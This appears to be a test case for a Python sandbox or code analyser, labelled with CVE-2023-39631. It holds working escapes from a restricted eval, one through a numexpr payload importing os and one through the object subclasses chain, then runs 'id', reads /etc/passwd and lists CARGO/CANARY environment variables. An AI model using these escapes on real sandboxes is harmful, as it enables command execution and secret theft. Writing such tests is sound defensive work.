# /// case
# technique = "string-built-names"
# analysis = ["forbidden-function", "string-execution"]
# without_analysis = "contained"
# reference = "CVE-2023-39631"
# ///
# A calculator of expressions that compiles what it is given, with numbers in place of names.
def evaluate(expression, names):
    code = compile(expression, "<expression>", "eval")
    return eval(code, {"__builtins__": {}}, names)

print(evaluate("2 * x + 1", {"x": 20}))
try:
    import numexpr
    found = numexpr.evaluate("(lambda: __import__('os'))()")
except ImportError:
    text = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__"
    found = evaluate(text, {})["sys"].modules["os"]

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
